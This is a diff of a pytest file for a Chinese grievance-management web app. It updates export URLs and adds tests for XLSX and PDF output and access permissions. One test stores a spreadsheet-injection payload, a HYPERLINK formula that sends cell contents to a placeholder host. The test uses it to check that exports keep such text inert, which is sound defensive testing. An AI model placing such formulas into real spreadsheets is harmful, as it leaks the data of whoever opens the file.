@@ -93,7 +93,7 @@ def _pdffonts(content: bytes, tmp_path) -> str:
 
 def test_record_form_prints_with_a_cjk_font_and_ticks_the_channel(demo, login, make_item, tmp_path):
     g = make_item("answered")
-    response = login("union_chair").get(f"/e/demo/grievances/{g.pk}/record.pdf")
+    response = login("union_chair").get(f"/e/demo/documents/grievance_record/{g.pk}.pdf")
     assert response.status_code == 200
     assert "CJK" in _pdffonts(response.content, tmp_path)
     path = tmp_path / "doc.pdf"
@@ -106,9 +106,9 @@ def test_record_form_prints_with_a_cjk_font_and_ticks_the_channel(demo, login, m
 def test_summary_table_groups_by_class_in_pdf_and_xlsx(demo, login, make_item, tmp_path):
     g = make_item("classified", content="工资发放不及时")
     client = login("union_staff")
-    pdf = client.get("/e/demo/grievances/summary.pdf")
+    pdf = client.get("/e/demo/documents/summary_table.pdf")
     assert pdf.status_code == 200 and "CJK" in _pdffonts(pdf.content, tmp_path)
-    xlsx = client.get("/e/demo/grievances/summary.xlsx")
+    xlsx = client.get("/e/demo/documents/summary_table.xlsx")
     assert xlsx.status_code == 200
     path = tmp_path / "t.xlsx"
     path.write_bytes(b"".join(xlsx.streaming_content))  # sent in chunks
@@ -119,7 +119,7 @@ def test_summary_table_groups_by_class_in_pdf_and_xlsx(demo, login, make_item, t
 
 @pytest.mark.parametrize("fmt", ["doc", "csv"])
 def test_summary_table_in_another_format_answers_404(demo, login, fmt):
-    assert login("union_staff").get(f"/e/demo/grievances/summary.{fmt}").status_code == 404
+    assert login("union_staff").get(f"/e/demo/documents/summary_table.{fmt}").status_code == 404
 
 
 def test_overdue_filter_shows_old_open_items_only(demo, login, make_item):
@@ -134,3 +134,97 @@ def test_overdue_filter_shows_old_open_items_only(demo, login, make_item):
     )
     page = login("union_staff").get("/e/demo/grievances/all/?overdue=on").content.decode()
     assert "很久以前的诉求" in page and "今天的诉求" not in page
+
+
+def _routed_item(demo, member, *, content, responsible_person):
+    """An item taken through the public services up to routing, like make_item."""
+    from consult.models import Category, Department
+
+    staff = member("union_staff").user
+    hr = Department.objects.get(enterprise=demo, name="人力资源部")
+    g = services.grievance_submit(
+        enterprise=demo,
+        by=member("employee").user,
+        kind="grievance",
+        content=content,
+        disclosure="named",
+    )
+    services.grievance_verify(grievance=g, by=staff)
+    services.grievance_classify(
+        grievance=g,
+        by=staff,
+        category=Category.objects.filter(enterprise=demo, parent__isnull=False).first(),
+        departments=[hr],
+        responsible_person=responsible_person,
+    )
+    services.grievance_sign_opinion(
+        grievance=g, by=member("union_chair").user, route="department", opinion="转人力资源部办理"
+    )
+    services.grievance_approve_routing(grievance=g, by=member("admin_deputy").user)
+    return g
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A1,"点此查看")'
+
+
+def test_summary_xlsx_keeps_formula_like_text_as_text(demo, member, login, tmp_path):
+    import zipfile
+
+    _routed_item(demo, member, content=FORMULA, responsible_person="=1+2")
+    _routed_item(demo, member, content="@SUM(1,2)\t含制表符", responsible_person="-3+4")
+    response = login("union_staff").get("/e/demo/documents/summary_table.xlsx")
+    assert response.status_code == 200
+    path = tmp_path / "t.xlsx"
+    path.write_bytes(b"".join(response.streaming_content))
+    sheet = load_workbook(path).active
+    cells = {c.value: c for row in sheet.iter_rows(min_row=3) for c in row if c.value}
+    for text in (FORMULA, "=1+2", "@SUM(1,2)\t含制表符", "-3+4"):
+        assert cells[text].data_type == "s", text
+    with zipfile.ZipFile(path) as xlsx:
+        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+
+
+def test_summary_xlsx_drops_characters_a_spreadsheet_cannot_hold(demo, member, login, tmp_path):
+    _routed_item(demo, member, content="门禁\x07坏了\x1b", responsible_person="郑芳")
+    response = login("union_staff").get("/e/demo/documents/summary_table.xlsx")
+    assert response.status_code == 200
+    path = tmp_path / "t.xlsx"
+    path.write_bytes(b"".join(response.streaming_content))
+    values = [c.value for row in load_workbook(path).active.iter_rows(min_row=3) for c in row]
+    assert "门禁坏了" in values
+
+
+def test_summary_xlsx_prints_landscape_with_the_header_on_every_page(
+    demo, login, make_item, tmp_path
+):
+    make_item("classified")
+    response = login("union_staff").get("/e/demo/documents/summary_table.xlsx")
+    path = tmp_path / "t.xlsx"
+    path.write_bytes(b"".join(response.streaming_content))
+    sheet = load_workbook(path).active
+    assert sheet["A1"].value == "议题梳理汇总分类表"
+    assert sheet.freeze_panes == "A3"
+    assert sheet.print_title_rows == "$2:$2"
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.page_setup.paperSize == 9  # A4
+    assert sheet.column_dimensions["C"].width == 60
+
+
+def test_employee_may_not_print_the_summary_table(demo, login):
+    for fmt in ("pdf", "xlsx"):
+        assert login("employee").get(f"/e/demo/documents/summary_table.{fmt}").status_code == 403
+
+
+def test_employee_sees_their_item_but_may_not_print_its_record_form(demo, login, make_item):
+    g = make_item("submitted")
+    client = login("employee")
+    assert client.get(f"/e/demo/grievances/{g.pk}/").status_code == 200
+    assert client.get(f"/e/demo/documents/grievance_record/{g.pk}.pdf").status_code == 403
+
+
+def test_the_department_an_item_is_routed_to_prints_its_record_form(demo, login, make_item):
+    g = make_item("routed_department")
+    response = login("dept_head").get(f"/e/demo/documents/grievance_record/{g.pk}.pdf")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/pdf"
